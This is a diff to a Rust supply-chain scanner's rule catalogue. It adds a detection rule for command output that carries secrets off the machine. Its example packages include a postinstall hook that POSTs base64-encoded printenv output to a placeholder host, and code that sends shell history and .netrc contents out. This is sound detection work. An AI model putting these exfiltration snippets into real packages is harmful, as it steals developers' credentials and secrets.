@@ -24,6 +24,7 @@ pub mod collection {
     pub mod npm_token_sent_to_network;
     pub mod process_memory_read;
     pub mod secret_argument_sent;
+    pub mod secret_command_output_sent;
     pub mod secret_file_read_unasked;
     pub mod secret_scanner_run;
     pub mod secret_variable_sent_unasked;
@@ -215,6 +216,7 @@ pub static RULES: &[&dyn Rule] = &[
     &collection::npm_token_sent_to_network::NpmTokenSentToNetwork,
     &collection::process_memory_read::ProcessMemoryRead,
     &collection::secret_argument_sent::SecretArgumentSent,
+    &collection::secret_command_output_sent::SecretCommandOutputSent,
     &collection::secret_file_read_unasked::SecretFileReadUnasked,
     &collection::secret_scanner_run::SecretScannerRun,
     &collection::secret_variable_sent_unasked::SecretVariableSentUnasked,
@@ -1241,6 +1243,58 @@ exports.importKey = (endpoint, privateKey) => fetch(endpoint + "/keys", { method
 
 - Solana: web3.js postmortem (December 2024)
 - XRPL: xrpl.js disclosure (April 2025)
+"#,
+    ),
+    (
+        "secret-command-output-sent",
+        r#"# What a command tells of secrets leaves the machine
+
+At install or import, the output of a command that prints the environment, a secret file or a token
+reaches a request, a look-up or a command that sends.
+
+## Why it matters
+
+A command line in a string is the oldest way to read a file without the name of a function that reads
+files.
+
+## Known benign uses
+
+Build tools run commands and keep what they answer.
+
+## Bad
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
+== setup.js
+const { execSync } = require("child_process");
+const text = execSync("printenv").toString("base64");
+fetch("https://collector.invalid/", { method: "POST", body: text }); //~ here
+```
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+require("child_process").exec("cat ~/.zsh_history ~/.netrc", (error, out) => {
+  require("https").get("https://collector.invalid/?q=" + encodeURIComponent(out)); //~ here
+});
+```
+
+## Good
+
+```package
+== package.json
+{"name": "x", "version": "1.0.0", "main": "index.js"}
+== index.js
+const { execSync } = require("child_process");
+exports.commit = execSync("git rev-parse HEAD").toString();
+exports.report = (address) => fetch(address, { method: "POST", body: execSync("env").toString() });
+```
+
+## References
+
+- Wiz: Shai-Hulud npm Supply Chain Attack (September 2025)
 "#,
     ),
     (
@@ -3729,8 +3783,8 @@ socket.onmessage = ({ data }) => { if (JSON.parse(data).type === "reload") locat
         "secret-sent-to-messenger",
         r#"# Secrets or facts of the machine go to a chat
 
-A secret, a file or facts of the machine are posted to a chat's hook or bot whose token stands in the
-code.
+A secret or facts of the machine are posted to a chat's hook or bot whose token stands in the code; at
+install or import, anything that the machine tells.
 
 ## Why it matters
 
